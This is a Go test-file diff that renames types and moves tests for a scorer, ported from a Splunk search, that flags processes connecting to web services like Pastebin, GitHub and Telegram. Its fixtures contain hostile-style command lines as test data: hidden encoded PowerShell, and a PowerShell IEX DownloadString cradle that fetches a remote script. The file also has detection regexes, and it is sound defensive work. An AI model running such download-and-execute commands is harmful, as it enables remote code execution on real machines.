@@ -1,6 +1,9 @@
-package detect
+package legacy
 
 import (
+	"github.com/t1102app/t1102/src/detect"
+	"github.com/t1102app/t1102/src/internal/fold"
+
 	"math/rand"
 	"regexp"
 	"strings"
@@ -13,103 +16,103 @@ func TestLegacyScorer(t *testing.T) {
 	tests := []struct {
 		name   string
 		reason string
-		ev     LegacyEvent
-		want   LegacyResult
+		ev     Event
+		want   Result
 	}{
 		{
 			name:   "atomic pastebin",
 			reason: "PowerShell to Pastebin with -enc: the case the SPL was written for",
 			ev: ev("3", "pastebin.com", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
 				"powershell.exe -nop -w hidden -enc SQBFAFgA", `C:\Windows\explorer.exe`),
-			want: LegacyResult{Service: "pastebin", Suspicious: true, Encoded: true, Score: 2, Pass: true},
+			want: Result{Service: "pastebin", Suspicious: true, Encoded: true, Score: 2, Pass: true},
 		},
 		{
 			name:   "service spawn",
 			reason: "scheduled task host parent adds one",
 			ev: ev("3", "raw.githubusercontent.com", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
 				"powershell iwr https://raw.githubusercontent.com/x", `C:\Windows\System32\svchost.exe`),
-			want: LegacyResult{Service: "github", Suspicious: true, ServiceSpawn: true, Score: 2, Pass: true},
+			want: Result{Service: "github", Suspicious: true, ServiceSpawn: true, Score: 2, Pass: true},
 		},
 		{
 			name:   "office parent",
 			reason: "Word spawning cmd",
 			ev:     ev("3", "discord.com", `C:\Windows\System32\cmd.exe`, "", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`),
-			want:   LegacyResult{Service: "discord", Suspicious: true, OfficeParent: true, Score: 2, Pass: true},
+			want:   Result{Service: "discord", Suspicious: true, OfficeParent: true, Score: 2, Pass: true},
 		},
 		{
 			name:   "x.com inside dropbox.com",
 			reason: "the SPL's unanchored x\\.com matches dropbox.com: kept on purpose, this is the baseline",
 			ev:     ev("3", "www.dropbox.com", `C:\Windows\System32\curl.exe`, "", ""),
-			want:   LegacyResult{Service: "twitter", Suspicious: true, Score: 1, Pass: true},
+			want:   Result{Service: "twitter", Suspicious: true, Score: 1, Pass: true},
 		},
 		{
 			name:   "t.me inside smart.meraki.com",
 			reason: "unanchored t\\.me",
 			ev:     ev("3", "smart.meraki.com", `C:\Python\python.exe`, "", ""),
-			want:   LegacyResult{Service: "telegram", Suspicious: true, Score: 1, Pass: true},
+			want:   Result{Service: "telegram", Suspicious: true, Score: 1, Pass: true},
 		},
 		{
 			name:   "cmd.exe inside dcmd.exe",
 			reason: "unanchored cmd\\.exe",
 			ev:     ev("3", "gitlab.com", `C:\tools\dcmd.exe`, "", ""),
-			want:   LegacyResult{Service: "gitlab", Suspicious: true, Score: 1, Pass: true},
+			want:   Result{Service: "gitlab", Suspicious: true, Score: 1, Pass: true},
 		},
 		{
 			name:   "case order",
 			reason: "case() takes the first branch in the SPL's order, not the first position in the string: github before reddit",
 			ev:     ev("3", "reddit.com.github.com", `C:\node.exe`, "", ""),
-			want:   LegacyResult{Service: "github", Suspicious: true, Score: 1, Pass: true},
+			want:   Result{Service: "github", Suspicious: true, Score: 1, Pass: true},
 		},
 		{
 			name:   "other event code",
 			reason: "rows that are not EventCode 3 get fields but never pass",
 			ev:     ev("1", "pastebin.com", `C:\Windows\System32\cmd.exe`, "", ""),
-			want:   LegacyResult{Service: "pastebin", Suspicious: true, Score: 1},
+			want:   Result{Service: "pastebin", Suspicious: true, Score: 1},
 		},
 		{
 			name:   "no service",
 			reason: "the first where clause drops it",
 			ev:     ev("3", "example.org", `C:\Windows\System32\cmd.exe`, "", ""),
-			want:   LegacyResult{Suspicious: true, Score: 1},
+			want:   Result{Suspicious: true, Score: 1},
 		},
 		{
 			name:   "not suspicious",
 			reason: "the second where clause drops it",
 			ev:     ev("3", "github.com", `C:\Program Files\Git\mingw64\bin\git-remote-https.exe`, "", ""),
-			want:   LegacyResult{Service: "github"},
+			want:   Result{Service: "github"},
 		},
 		{
 			name:   "enc with tab",
 			reason: "-enc\\s: any PCRE whitespace, a tab too",
 			ev:     ev("3", "t.me", `C:\pwsh.exe`, "pwsh -enc\tAAAA", ""),
-			want:   LegacyResult{Service: "telegram", Suspicious: true, Encoded: true, Score: 2, Pass: true},
+			want:   Result{Service: "telegram", Suspicious: true, Encoded: true, Score: 2, Pass: true},
 		},
 		{
 			name:   "enc at the end",
 			reason: "-enc with nothing after it does not match -enc\\s",
 			ev:     ev("3", "t.me", `C:\pwsh.exe`, "pwsh -enc", ""),
-			want:   LegacyResult{Service: "telegram", Suspicious: true, Score: 1, Pass: true},
+			want:   Result{Service: "telegram", Suspicious: true, Score: 1, Pass: true},
 		},
 		{
 			name:   "encoded mixed case",
 			reason: "CommandLine is lowered before matching",
 			ev:     ev("3", "t.me", `C:\pwsh.exe`, "[Convert]::FromBase64String($x)", ""),
-			want:   LegacyResult{Service: "telegram", Suspicious: true, Encoded: true, Score: 2, Pass: true},
+			want:   Result{Service: "telegram", Suspicious: true, Encoded: true, Score: 2, Pass: true},
 		},
 		{
 			name:   "absent fields",
 			reason: "missing fields match nothing",
-			ev:     LegacyEvent{},
-			want:   LegacyResult{},
+			ev:     Event{},
+			want:   Result{},
 		},
 		{
 			name:   "unicode lower",
 			reason: "SPL's lower() is Unicode: the Kelvin sign lowers to an ASCII k",
 			ev:     ev("3", "doc.google.com", `C:\\x\\wmic.exe`, "", "C:\\TAS\u212AENG.EXE"),
-			want:   LegacyResult{Suspicious: true, ServiceSpawn: true, Score: 2},
+			want:   Result{Suspicious: true, ServiceSpawn: true, Score: 2},
 		},
 	}
-	var s LegacyScorer
+	var s Scorer
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			require.NotEmpty(t, tt.reason)
@@ -121,8 +124,8 @@ func TestLegacyScorer(t *testing.T) {
 	}
 }
 
-func ev(code, host, image, cmd, parent string) LegacyEvent {
-	return LegacyEvent{[]byte(code), []byte(host), []byte(image), []byte(cmd), []byte(parent)}
+func ev(code, host, image, cmd, parent string) Event {
+	return Event{[]byte(code), []byte(host), []byte(image), []byte(cmd), []byte(parent)}
 }
 
 // The SPL's own regular expressions, copied from the original search, are
@@ -150,9 +153,9 @@ var (
 	oracleService    = regexp.MustCompile(`(svchost\.exe|taskeng\.exe|taskhostw\.exe|services\.exe|wmiprvse\.exe)`)
 )
 
-func oracle(e LegacyEvent) LegacyResult {
+func oracle(e Event) Result {
 	host := strings.ToLower(string(e.DestinationHostname))
-	var r LegacyResult
+	var r Result
 	for _, s := range oracleServices {
 		if s.re.MatchString(host) {
 			r.Service = s.category
@@ -164,7 +167,7 @@ func oracle(e LegacyEvent) LegacyResult {
 	parent := strings.ToLower(string(e.ParentImage))
 	r.OfficeParent = oracleOffice.MatchString(parent)
 	r.ServiceSpawn = oracleService.MatchString(parent)
-	r.Score = B2I(r.Suspicious) + B2I(r.Encoded) + B2I(r.OfficeParent) + B2I(r.ServiceSpawn)
+	r.Score = detect.B2I(r.Suspicious) + detect.B2I(r.Encoded) + detect.B2I(r.OfficeParent) + detect.B2I(r.ServiceSpawn)
 	r.Pass = strings.TrimSpace(string(e.EventCode)) == "3" && r.Service != "" && r.Suspicious
 	return r
 }
@@ -185,9 +188,9 @@ func TestLegacyMatchesSPLRegexes(t *testing.T) {
 		}
 		return []byte(b.String())
 	}
-	var s LegacyScorer
+	var s Scorer
 	for i := 0; i < 20000; i++ {
-		e := LegacyEvent{gen(), gen(), gen(), gen(), gen()}
+		e := Event{gen(), gen(), gen(), gen(), gen()}
 		if rng.Intn(2) == 0 {
 			e.EventCode = []byte("3")
 		}
@@ -201,7 +204,7 @@ func BenchmarkLegacyScorer(b *testing.B) {
 	e := ev("3", "raw.githubusercontent.com", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
 		`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString('https://raw.githubusercontent.com/x/y/main/z.ps1')"`,
 		`C:\Windows\System32\svchost.exe`)
-	var s LegacyScorer
+	var s Scorer
 	b.ReportAllocs()
 	for b.Loop() {
 		s.Score(e)
@@ -214,6 +217,6 @@ func TestLower(t *testing.T) {
 		all = append(all, byte(c))
 	}
 	for _, s := range []string{"", "A", "Hello, WORLD! @[`{", string(all), string(all[3:]), "ÀÉ KELVIN \u212A", "abcdefgH\u212A"} {
-		require.Equal(t, strings.ToLower(s), string(lower([]byte("keep:"), []byte(s))[5:]), "%q", s)
+		require.Equal(t, strings.ToLower(s), string(fold.Lower([]byte("keep:"), []byte(s))[5:]), "%q", s)
 	}
 }
